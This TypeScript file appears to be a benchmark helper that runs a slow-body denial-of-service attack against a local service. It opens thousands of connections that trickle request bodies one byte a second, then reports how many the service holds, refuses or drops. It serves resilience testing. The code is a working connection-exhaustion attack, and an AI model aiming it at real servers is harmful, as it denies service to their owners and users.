/**
 * The slow-body attack of issue 12, in a child process of the bench so that
 * its thousands of sockets do not slow the bench's own /health client:
 * connections that send headers and a Content-Length, then a byte a
 * second, never the whole body. Opens `connections` of them, at most
 * `inFlight` being opened at once, from `sources` in turn; a connection the
 * service refuses (503) is closed and replaced. When every connection was
 * opened it prints one JSON line (how many the service holds, how many it
 * refused and how fast), keeps the held ones trickling, and exits when its
 * stdin closes.
 *
 *   node --import tsx bench/slow-body-attacker.ts '{"host":"127.1.1.1","port":8080,"sources":["127.1.2.1"],"connections":20000,"inFlight":1000}'
 */
import net from 'node:net';

export interface AttackConfig {
  host: string;
  port: number;
  sources: string[];
  connections: number;
  inFlight: number;
}

export interface AttackResult {
  /** Connections the service still holds open at the end. */
  held: number;
  /** Connections answered 503 (and closed). */
  refused: number;
  /** Connections closed without an answer (a reset, a refused connect). */
  dropped: number;
  /** Time from connect to the 503, 99th percentile, ms. */
  refusalP99: number;
}

/** How long a connection without an answer counts as held by the service. */
const HELD_AFTER_MS = 200;
const TRICKLE_EVERY_MS = 1000;
const HEAD =
  'POST /evaluate HTTP/1.1\r\nHost: checker\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{';

const config = JSON.parse(process.argv[2] ?? '{}') as AttackConfig;
const held = new Set<net.Socket>();
const refusals: number[] = [];
let dropped = 0;
let started = 0;

/** One connection: 'held' if the service keeps it, else how it ended. */
function open(source: string): Promise<'held' | 'refused' | 'dropped'> {
  return new Promise((resolve) => {
    const opened = performance.now();
    const socket = net.connect({ host: config.host, port: config.port, localAddress: source });
    let first = '';
    let settled = false;
    const settle = (how: 'held' | 'refused' | 'dropped') => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      if (how === 'held') held.add(socket);
      else socket.destroy();
      resolve(how);
    };
    const timer = setTimeout(() => settle('held'), HELD_AFTER_MS);
    socket.setEncoding('utf8');
    socket.on('error', () => settle('dropped'));
    socket.on('data', (d: string) => {
      first ||= d;
      if (first.startsWith('HTTP/1.1 503')) {
        refusals.push(performance.now() - opened);
        settle('refused');
      }
    });
    socket.on('close', () => {
      held.delete(socket);
      settle('dropped');
    });
    socket.once('connect', () => socket.write(HEAD));
  });
}

const trickle = setInterval(() => {
  for (const s of held) s.write(' ');
}, TRICKLE_EVERY_MS);

await Promise.all(
  Array.from({ length: config.inFlight }, async () => {
    while (started < config.connections) {
      const source = config.sources[started++ % config.sources.length]!;
      if ((await open(source)) === 'dropped') dropped++;
    }
  }),
);
refusals.sort((a, b) => a - b);
const result: AttackResult = {
  held: held.size,
  refused: refusals.length,
  dropped,
  refusalP99: refusals[Math.min(refusals.length - 1, Math.floor(0.99 * refusals.length))] ?? 0,
};
process.stdout.write(`${JSON.stringify(result)}\n`);
process.stdin.resume();
process.stdin.on('end', () => {
  clearInterval(trickle);
  for (const s of held) s.destroy();
  process.exit(0);
});
